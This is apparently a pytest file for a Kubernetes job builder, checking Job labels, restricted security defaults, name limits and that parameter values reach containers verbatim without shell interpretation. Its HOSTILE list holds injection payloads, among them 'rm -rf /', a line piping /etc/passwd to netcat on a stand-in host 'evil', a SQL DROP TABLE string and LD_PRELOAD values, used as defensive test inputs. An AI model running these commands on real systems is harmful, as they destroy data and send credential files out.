"""The Job of an attempt: its name, what it is allowed, and that values reach it verbatim."""

from typing import Any, Final

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.executor.core.changes import RefusedError
from services.executor.core.job_building import from_command, from_template, job_name
from shared.api.enums import Action, ErrorType
from shared.api.parameters import Custom, FailoverDatabase
from shared.workflow.names import operation_id
from tests.support.builders import UID
from tests.support.expansion import expanded
from tests.support.jobs import (
    FAILOVER,
    Object,
    claim_of,
    containers_of,
    environment_of,
    pod_template,
    with_container,
)

IMAGE: Final = f"registry.example/tools@sha256:{'0' * 64}"
HOSTILE: Final = (
    "$(rm -rf /)",
    "$(MENDFLOW_STEP)",
    "$$(MENDFLOW_STEP)",
    "$$$(MENDFLOW_STEP)",
    "`id`; echo $HOME && cat /etc/passwd | nc evil 1 > /tmp/x",
    "'; DROP TABLE orders; --",
    '"\\"\n\r\t\x1b[31m',
    "$",
    "$$",
    "$(",
    "--flag=value",
    "${IFS}",
    "\u202egnp.exe",
    "ünïcödé 🔥",
)


def _failover(template: Object, **changes: Any) -> Object:
    parameters = msgspec.structs.replace(FAILOVER, **changes)
    return from_template(claim_of(parameters), Action.FAILOVER_DATABASE, parameters, template)


def _custom(**fields: Any) -> Object:
    parameters = Custom(**fields)
    return from_command(claim_of(parameters), Action.CUSTOM, parameters, image=IMAGE)


def test_a_job_runs_once_and_ends_with_its_execution() -> None:
    claim = claim_of(timeout="90s", correlation="rr-17")

    job = from_template(claim, Action.FAILOVER_DATABASE, FAILOVER, pod_template())

    assert job["metadata"]["namespace"] == "default"
    assert job["metadata"]["labels"] == job["metadata"]["labels"] | {
        "kubernaut.ai/workflow": "fix",
        "kubernaut.ai/workflow-uid": UID,
        "kubernaut.ai/step": "promote",
        "kubernaut.ai/execution": claim.metadata.name,
        "kubernaut.ai/action": "failover_database",
        "kubernaut.ai/correlationID": "rr-17",
    }
    assert job["metadata"]["ownerReferences"] == [
        {
            "apiVersion": "kubernetesexecution.kubernaut.ai/v1alpha1",
            "kind": "KubernetesExecution",
            "name": claim.metadata.name,
            "uid": claim.metadata.uid,
            "controller": True,
            "blockOwnerDeletion": False,
        }
    ]
    spec = job["spec"]
    assert (spec["backoffLimit"], spec["podReplacementPolicy"]) == (0, "Failed")
    assert (spec["activeDeadlineSeconds"], spec["ttlSecondsAfterFinished"]) == (90, 300)
    pod = spec["template"]
    assert pod["metadata"]["labels"]["app"] == "tool"
    assert pod["metadata"]["labels"]["kubernaut.ai/execution"] == claim.metadata.name
    assert pod["spec"]["restartPolicy"] == "Never"
    assert pod["spec"]["serviceAccountName"] == "mendflow-job"
    assert pod["spec"]["automountServiceAccountToken"] is False


def test_a_job_stays_until_nobody_can_create_it_again() -> None:
    job = from_template(claim_of(timeout="30m"), Action.FAILOVER_DATABASE, FAILOVER, pod_template())

    assert job["spec"]["ttlSecondsAfterFinished"] == 1800


def test_what_a_template_leaves_open_is_filled_in_as_restricted() -> None:
    init = {"name": "before", "image": "registry.example/tool:1"}

    job = _failover(pod_template(initContainers=[init], terminationGracePeriodSeconds=600))

    pod = job["spec"]["template"]["spec"]
    assert pod["terminationGracePeriodSeconds"] == 30
    assert pod["securityContext"] == {
        "runAsNonRoot": True,
        "runAsUser": 65532,
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    for container in containers_of(job):
        context = container["securityContext"]
        assert context["allowPrivilegeEscalation"] is False
        assert context["capabilities"] == {"drop": ["ALL"]}
        assert container["resources"] == {
            "requests": {"cpu": "50m", "memory": "64Mi"},
            "limits": {"cpu": "200m", "memory": "256Mi"},
        }


def test_what_a_template_says_stays() -> None:
    resources = {"limits": {"memory": "2Gi"}}
    template = with_container(resources=resources, securityContext={"runAsUser": 1000})
    template["template"]["spec"] |= {
        "securityContext": {"runAsUser": 999, "fsGroup": 5},
        "automountServiceAccountToken": True,
        "serviceAccount": "mendflow-job",
    }

    pod = _failover(template)["spec"]["template"]["spec"]

    assert pod["securityContext"]["runAsUser"] == 999
    assert pod["securityContext"]["fsGroup"] == 5
    assert pod["automountServiceAccountToken"] is True
    assert "serviceAccount" not in pod
    assert pod["containers"][0]["resources"] == resources
    assert pod["containers"][0]["securityContext"]["runAsUser"] == 1000


def test_what_a_pod_may_use_in_all_is_not_exceeded_by_what_is_filled_in() -> None:
    job = _failover(pod_template(resources={"limits": {"memory": "64Mi"}}))

    (container,) = containers_of(job)
    assert job["spec"]["template"]["spec"]["resources"] == {"limits": {"memory": "64Mi"}}
    assert not container.get("resources")


def test_every_container_is_told_who_asks_and_for_what() -> None:
    template = pod_template(initContainers=[{"name": "before", "image": "i"}])
    template["template"]["spec"]["containers"][0]["env"] = [{"name": "OWN", "value": "kept"}]

    job = _failover(template)

    for container in containers_of(job):
        told = environment_of(container)
        told.pop("OWN", "")
        assert told == {
            "MENDFLOW_ACTION": "failover_database",
            "MENDFLOW_WORKFLOW": "fix",
            "MENDFLOW_STEP": "promote",
            "MENDFLOW_OPERATION_ID": operation_id(UID, "promote", 1, claim_of().spec.kind),
            "MENDFLOW_PARAM_NAMESPACE": "default",
            "MENDFLOW_PARAM_DATABASE": "orders",
            "MENDFLOW_PARAM_REPLICA_NAME": "orders-1",
        }
    # A variable of the template is made of those before it: of none of ours.
    assert job["spec"]["template"]["spec"]["containers"][0]["env"][0]["name"] == "OWN"


@pytest.mark.parametrize("text", HOSTILE)
def test_sec13_hostile_values_arrive_verbatim_and_never_in_a_command(text: str) -> None:
    job = _failover(pod_template(), database=text)
    command = _custom(custom_command=["tool", text], config={"VALUE": text}, action_type=text)

    (container,) = containers_of(job)
    assert _received(container)["MENDFLOW_PARAM_DATABASE"] == text
    assert container["command"] == ["promote"]
    assert "args" not in container
    (container,) = containers_of(command)
    assert _received(container)["VALUE"] == text
    assert _received(container)["MENDFLOW_PARAM_ACTION_TYPE"] == text
    known = _received(container)
    assert [expanded(word, known) for word in container["command"]] == ["tool", text]


@given(st.text(alphabet="$()A\\_ ", max_size=24), st.text(max_size=24))
def test_any_value_arrives_verbatim(likely: str, any_text: str) -> None:
    for text in (likely, any_text.replace("\0", "")):
        (container,) = containers_of(
            _custom(custom_command=["tool", text], config={"A": text, "B": "b"})
        )

        known = _received(container)
        assert known["A"] == text
        assert expanded(container["command"][1], known) == text


def _received(container: Object) -> dict[str, str]:
    """Return the variables that the process has: each may be made of those before it."""
    known: dict[str, str] = {}
    for name, value in environment_of(container).items():
        known[name] = expanded(value, known)
    return known


def test_a_command_runs_in_the_configured_image_and_may_write_nowhere() -> None:
    job = _custom(custom_command=["kubectl", "get", "pods"], config={"LEVEL": "3"})

    pod = job["spec"]["template"]["spec"]
    (container,) = containers_of(job)
    assert (container["image"], container["command"]) == (IMAGE, ["kubectl", "get", "pods"])
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    assert pod["automountServiceAccountToken"] is True
    assert environment_of(container)["LEVEL"] == "3"


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"config": {"MENDFLOW_STEP": "other"}}, "config: 'MENDFLOW_STEP' begins with"),
        ({"config": {"LD_PRELOAD": "/tmp/x"}}, "config: 'LD_PRELOAD' would decide"),  # noqa: S108
        ({"config": {"BASH_FUNC_ls%%": "x"}}, "config: 'BASH_FUNC_ls%%' is no name"),
        ({"config": {"A": "a\0b"}}, "config: the value of A holds a NUL"),
        ({"custom_command": ["tool", "a\0b"]}, "customCommand: it holds a NUL"),
        ({"custom_command": [" "]}, "customCommand: the first entry"),
    ],
)
def test_what_no_process_can_be_given_is_refused(fields: dict[str, Any], field: str) -> None:
    with pytest.raises(RefusedError, match=field) as refused:
        _custom(**{"custom_command": ["tool"], **fields})

    assert refused.value.error is ErrorType.VALIDATION_ERROR


def test_names_that_only_look_like_those_of_loaders_are_fine() -> None:
    names = {"LDAP_URL": "x", "NODE_NAME": "y", "ENVIRONMENT": "z", "HOMEPAGE": "h"}

    (container,) = containers_of(_custom(custom_command=["tool"], config=names))

    assert environment_of(container).items() >= names.items()


def test_without_an_image_no_command_runs() -> None:
    parameters = Custom(custom_command=["tool"])

    with pytest.raises(RefusedError, match="MENDFLOW_JOB_IMAGE"):
        from_command(claim_of(parameters), Action.CUSTOM, parameters, image="")


def test_a_template_that_was_changed_since_is_refused_with_its_field() -> None:
    with pytest.raises(RefusedError, match=r"failover-database: template\.spec\.hostNetwork") as no:
        _failover(pod_template(hostNetwork=True))

    assert no.value.error is ErrorType.VALIDATION_ERROR


@pytest.mark.parametrize("length", [1, 58, 59, 60, 63, 253])
def test_a_name_is_a_label_whatever_the_execution_is_called(length: int) -> None:
    name = job_name("e" * length)

    assert len(name) <= 63
    assert name.endswith("-job")


def test_attempts_and_steps_have_jobs_of_their_own_under_the_longest_names() -> None:
    claims = [
        claim_of(step=step, workflow="w" * 61, attempt=attempt)
        for step in ("a", "b", "long-" * 7 + "step")
        for attempt in (1, 2, 3)
    ]

    names = {job_name(claim.metadata.name) for claim in claims}

    assert len(names) == len(claims)
    assert max(map(len, names)) == 63


def test_a_retry_has_an_operation_of_its_own() -> None:
    template = pod_template()
    operations = {
        environment_of(
            containers_of(
                from_template(
                    claim_of(attempt=attempt), Action.FAILOVER_DATABASE, FAILOVER, template
                )
            )[0]
        )["MENDFLOW_OPERATION_ID"]
        for attempt in (1, 2)
    }

    assert len(operations) == 2


def test_the_same_attempt_has_the_same_job_and_the_template_is_left_alone() -> None:
    template = pod_template()
    before = msgspec.json.encode(template)

    assert _failover(template) == _failover(template)
    assert msgspec.json.encode(template) == before


def test_a_namespace_that_is_named_is_given() -> None:
    parameters = FailoverDatabase(database="d", namespace="shop")

    job = from_template(claim_of(parameters), Action.FAILOVER_DATABASE, parameters, pod_template())

    assert environment_of(containers_of(job)[0])["MENDFLOW_PARAM_NAMESPACE"] == "shop"
